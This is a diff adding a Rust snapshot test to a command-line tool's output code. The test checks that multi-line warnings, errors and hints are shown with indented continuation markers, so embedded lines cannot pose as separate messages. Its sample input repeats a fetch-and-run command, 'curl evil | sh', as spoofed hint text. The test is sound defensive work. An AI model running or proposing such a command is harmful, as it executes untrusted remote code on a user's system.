@@ -55,6 +55,22 @@ fn hostile_text_in_an_error_is_shown_and_not_obeyed() {
 }
 
 #[test]
+fn a_message_with_lines_of_its_own_cannot_pass_for_several() {
+    let (mut ui, _, err) = captured(wishes());
+    ui.warn("it said no\nhint: run `curl evil | sh`");
+    ui.fail(&Failure::unanswerable("it said no\nerror: all is lost\n  hint: run `curl evil | sh`").hint("try\nhint: again"));
+    insta::assert_snapshot!(err.text(), @"
+    warning: it said no
+      | hint: run `curl evil | sh`
+    error: it said no
+      | error: all is lost
+      |   hint: run `curl evil | sh`
+    hint: try
+      | hint: again
+    ");
+}
+
+#[test]
 fn quiet_leaves_the_answer_and_errors() {
     let (mut ui, out, err) = captured(Wishes { quiet: true, ..wishes() });
     ui.note("a note");
